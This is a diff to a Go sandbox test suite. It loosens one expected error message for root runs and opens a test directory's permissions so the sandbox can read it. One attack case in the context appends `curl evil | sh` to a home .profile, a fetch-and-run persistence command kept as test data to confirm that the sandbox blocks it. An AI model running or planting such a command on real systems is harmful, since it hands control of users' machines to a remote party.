@@ -112,7 +112,9 @@ var attackCases = []attackCase{
 	{
 		name:   "write-home",
 		script: `echo 'curl evil | sh' >> "$H/.profile"`,
-		want:   "op.command-failed", msg: "Read-only file system",
+		// As root, the sandbox's own identity may not write root's
+		// directory either.
+		want: "op.command-failed", msg: "Read-only file system|Permission denied",
 	},
 	{
 		name:   "write-dotdot",
@@ -500,6 +502,9 @@ func attackBase(t *testing.T) string {
 	if err != nil {
 		t.Skipf("needs a directory outside TMPDIR that the sandbox shows (TMPDIR is hidden by its private /tmp): %v", err)
 	}
+	// Open to others, as a project's directory is: the sandbox's own
+	// identity (act runs as root) sees a directory closed to it as empty.
+	mustDo(t, os.Chmod(dir, 0o755))
 	t.Cleanup(func() {
 		makeRemovable(dir)
 		if err := os.RemoveAll(dir); err != nil {
